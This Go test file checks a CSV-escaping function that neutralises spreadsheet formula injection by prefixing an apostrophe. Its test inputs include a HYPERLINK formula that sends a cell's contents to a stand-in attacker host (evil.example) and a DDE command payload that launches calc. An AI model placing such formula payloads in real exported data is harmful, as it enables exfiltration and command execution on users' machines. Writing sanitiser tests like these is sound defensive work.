package sync_test

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"

	"github.com/jxsync/jxsync/sync"
)

func TestCSVSafe(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		// Formulas and what a spreadsheet takes for one become text.
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, `'=HYPERLINK("http://evil.example/?"&A1,"点击")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"-", "'-"},
		{"+", "'+"},
		{"-1e", "'-1e"},
		{"-1,234", "'-1,234"},
		{"-0x10", "'-0x10"},
		{"-Inf", "'-Inf"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"\n=1", "'\n=1"},
		// Numbers stay numbers.
		{"-12.5", "-12.5"},
		{"+3", "+3"},
		{"-.5", "-.5"},
		{"-1e-3", "-1e-3"},
		{"-2E+10", "-2E+10"},
		{"12.5", "12.5"},
		// Other text is left alone, a formula sign inside it too.
		{"", ""},
		{"武汉市蔡甸区救助管理站", "武汉市蔡甸区救助管理站"},
		{"a=1", "a=1"},
		{" =1", " =1"},
		{"'=1", "'=1"},
	} {
		if got := sync.CSVSafe(tc.in); got != tc.want {
			t.Errorf("CSVSafe(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestCSVSafeRecord(t *testing.T) {
	in := []string{"单位", "=cmd", "-5", "@x"}
	got := sync.CSVSafeRecord(in)
	if want := []string{"单位", "'=cmd", "-5", "'@x"}; !slices.Equal(got, want) {
		t.Errorf("CSVSafeRecord = %q, want %q", got, want)
	}
	if in[1] != "=cmd" {
		t.Errorf("the record was changed: %q", in)
	}
	// Written by encoding/csv, the neutralised cell is read back as it was
	// made safe: the quote is in the value, not lost to quoting.
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	w.Write(sync.CSVSafeRecord([]string{"=1,2", "-1"}))
	w.Flush()
	if b.String() != "\"'=1,2\",-1\n" {
		t.Errorf("written: %q", b.String())
	}
}
